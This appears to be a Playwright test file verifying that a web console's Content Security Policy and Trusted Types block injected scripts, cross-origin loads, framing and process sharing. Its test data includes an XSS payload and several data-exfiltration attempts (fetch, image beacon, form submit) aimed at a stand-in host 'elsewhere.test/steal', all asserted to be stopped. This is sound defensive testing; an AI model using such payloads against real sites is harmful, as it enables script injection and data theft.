// The guarantee: a script that got into the page can run no text, load or send nothing elsewhere,
// and be framed by nobody; and any journey in which the policy had to stop something fails.
import type { Page } from "@playwright/test";
import { collectComplaints, enter, expect, test } from "./journey.ts";

const elsewhere = "http://elsewhere.test";

/** Runs this in the page: what it threw, or undefined. */
function attempt(page: Page, script: string): Promise<string | undefined> {
  return page.evaluate(`(async () => {
    try { ${script} } catch (error) { return String(error); }
  })()`);
}

const texts = [
  "document.body.innerHTML = '<img src=x onerror=alert(1)>'",
  "document.createElement('script').textContent = 'window.ran = true'",
  `document.createElement('script').src = '${elsewhere}/x.js'`,
  "document.write('<p>')",
  "new DOMParser().parseFromString('<p>', 'text/html')",
  "setTimeout('window.ran = true', 0)",
  "trustedTypes.createPolicy('mine', { createHTML: (text) => text })",
];

const loads: readonly [directive: string, script: string][] = [
  ["connect-src", `await fetch('${elsewhere}/steal').catch(() => {})`],
  ["img-src", `new Image().src = '${elsewhere}/steal.png'`],
  [
    "form-action",
    `const form = document.createElement('form'); form.action = '${elsewhere}/steal';
     document.body.append(form); form.submit()`,
  ],
  [
    "frame-src",
    `const frame = document.createElement('iframe'); frame.src = '${elsewhere}';
     document.body.append(frame)`,
  ],
  [
    "base-uri",
    `const base = document.createElement('base'); base.href = '${elsewhere}';
     document.head.append(base)`,
  ],
  [
    "style-src-elem",
    `const style = document.createElement('style'); style.append('p { color: red }');
     document.head.append(style)`,
  ],
];

test.describe("the policy", () => {
  test.use({ pageMayBreak: true });

  test("lets no text become a script, and nothing be loaded from or sent elsewhere", async ({
    page,
    rokad,
  }) => {
    const asked: string[] = [];
    await page.route(`${elsewhere}/**`, (route) => {
      asked.push(route.request().url());
      return route.fulfill({ body: "" });
    });
    await enter(page, rokad, "9000000002");
    await expect(page.getByRole("main")).toBeVisible();
    for (const script of texts) {
      expect(await attempt(page, script), script).toMatch(/TypeError|EvalError/);
    }
    expect(await page.evaluate("window.ran")).toBeUndefined();
    await page.evaluate(
      "addEventListener('securitypolicyviolation', (event) => (window.stopped ??= []).push(event.effectiveDirective))",
    );
    for (const [directive, script] of loads) {
      expect(await attempt(page, script), script).toBeUndefined();
      await expect.poll(() => page.evaluate("window.stopped ?? []")).toContain(directive);
    }
    expect(asked).toEqual([]);
    expect(page.url()).toContain(rokad.origin);
  });

  test("fails a journey in which it had to stop something", async ({ page }) => {
    const complaints = await collectComplaints(page, { serverMayFail: false });
    await page.goto("/login");
    await attempt(page, `new Image().src = '${elsewhere}/steal.png'`);
    await expect.poll(() => complaints.join()).toContain("The policy stopped img-src");
  });

  test("lets no other site frame the console", async ({ page, rokad }) => {
    // The control: a page without a policy can be framed in the same way.
    await page.route(`${rokad.origin}/open`, (route) => route.fulfill({ body: "open" }));
    await page.setContent(
      ["open", "login"].map((path) => `<iframe src="${rokad.origin}/${path}"></iframe>`).join(""),
    );
    await expect
      .poll(() => page.frames().map((frame) => frame.url()))
      .toEqual(["about:blank", `${rokad.origin}/open`, "chrome-error://chromewebdata/"]);
  });
});

test("the console shares no process with another site's page", async ({ page }) => {
  await page.goto("/login");
  await expect(page.getByRole("heading", { name: /^Sign in/ })).toBeVisible();
  expect(await page.evaluate("crossOriginIsolated")).toBe(true);
});
